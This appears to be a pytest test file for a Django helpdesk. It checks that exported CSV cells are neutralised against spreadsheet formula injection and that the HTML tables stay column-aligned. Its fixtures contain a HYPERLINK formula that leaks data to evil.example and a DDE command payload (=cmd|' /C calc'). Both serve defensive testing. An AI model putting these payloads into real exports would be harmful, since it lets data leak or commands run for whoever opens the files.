"""The access package and the desk's tables carry the company's data as inert text (issue 25, points 4
and 10): no CSV cell or header is a formula, and every table is drawn from (column, value) pairs —
a record key named ``keys`` or ``values`` and records with different keys stay in their columns."""

from __future__ import annotations

import csv
import io
import sqlite3
import zipfile
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from helpdesk.fulfilment import services as fulfilment
from helpdesk.fulfilment.models import AccessPackage
from helpdesk.models import Ticket, User
from tests.fulfilment.conftest import HttpService, crm_toml, http_toml

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Click")'
HOSTILE_KEY = "=cmd|' /C calc'!A0"


class Tables(HTMLParser):
    """Every <table> of a page as rows of cell texts (header row included)."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: list[list[list[str]]] = []
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        if tag == "table":
            self.tables.append([])
        elif tag == "tr" and self.tables:
            self.tables[-1].append([])
        elif tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None and self.tables and self.tables[-1]:
            self.tables[-1][-1].append("".join(self._cell).strip())
            self._cell = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


def tables_of(html: str) -> list[list[list[str]]]:
    parser = Tables()
    parser.feed(html)
    return parser.tables


def table_with_header(html: str, first: str) -> list[list[str]]:
    found = [t for t in tables_of(html) if t and t[0] and t[0][0] == first]
    assert found, f"no table whose header starts with {first!r}"
    return found[0]


@pytest.fixture
def hostile_sources(use_sources: Callable[[str], Path], crm_db: Path, http_service: HttpService) -> Path:
    with sqlite3.connect(crm_db) as db:
        db.execute("UPDATE customers SET company = ? WHERE lower(email) = 'requester@example.com'", (HYPERLINK,))
    http_service.records["requester@example.com"] = [
        {"keys": "k-value", "values": "v-value", HOSTILE_KEY: "+SUM(1,2)"},
        {"list": "product-news", "values": "second"},
    ]
    return use_sources(crm_toml(crm_db) + http_toml(http_service))


@pytest.fixture
def built(hostile_sources: Path, verified_ticket: Callable[..., Ticket], admin_user: User,
          django_capture_on_commit_callbacks: Any) -> AccessPackage:
    ticket = verified_ticket("access")
    with django_capture_on_commit_callbacks(execute=True):
        fulfilment.start_lookup(ticket=ticket, actor=admin_user)
    return fulfilment.build_access_package(ticket=ticket, actor=admin_user)


def csv_rows(package: AccessPackage, name: str) -> list[list[str]]:
    with package.file.open("rb") as handle, zipfile.ZipFile(io.BytesIO(handle.read())) as archive:
        return list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))


def test_no_csv_cell_or_header_of_the_package_is_a_formula(built: AccessPackage) -> None:
    customers = csv_rows(built, "crm/customers.csv")
    assert customers[0] == ["name", "email", "phone", "company"]
    assert customers[1][3] == "'" + HYPERLINK

    records = csv_rows(built, "newsletter/records.csv")
    assert records[0] == ["keys", "values", "'" + HOSTILE_KEY, "list"]
    assert records[1] == ["k-value", "v-value", "'+SUM(1,2)", ""]
    assert records[2] == ["", "second", "", "product-news"]  # differing keys stay in their columns
    for row in customers + records:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


EXPECTED = [["keys", "values", HOSTILE_KEY, "list"],
            ["k-value", "v-value", "+SUM(1,2)", ""],
            ["", "second", "", "product-news"]]
# What the requester reads (issue 28.7): the same columns, unlabelled names made readable.
READABLE = [["Keys", "Values", HOSTILE_KEY, "List"], *EXPECTED[1:]]


def test_the_summary_in_the_zip_draws_columns_and_values_not_dict_lookups(built: AccessPackage) -> None:
    with built.file.open("rb") as handle, zipfile.ZipFile(io.BytesIO(handle.read())) as archive:
        summary = archive.read("summary.html").decode()
    assert table_with_header(summary, "Keys") == READABLE


def test_the_review_page_and_the_ticket_panel_draw_the_same_aligned_table(built: AccessPackage,
                                                                           admin_user: User) -> None:
    desk = Client()
    desk.force_login(admin_user)
    review = desk.get(reverse("fulfilment:review_package",
                              kwargs={"reference": built.ticket.reference, "pk": built.pk}))
    assert table_with_header(review.content.decode(), "Keys") == READABLE
    page = desk.get(reverse("desk:ticket", args=[built.ticket.reference])).content.decode()
    assert table_with_header(page, "keys") == [row if i == 0 else [c or "—" for c in row]
                                               for i, row in enumerate(EXPECTED)]
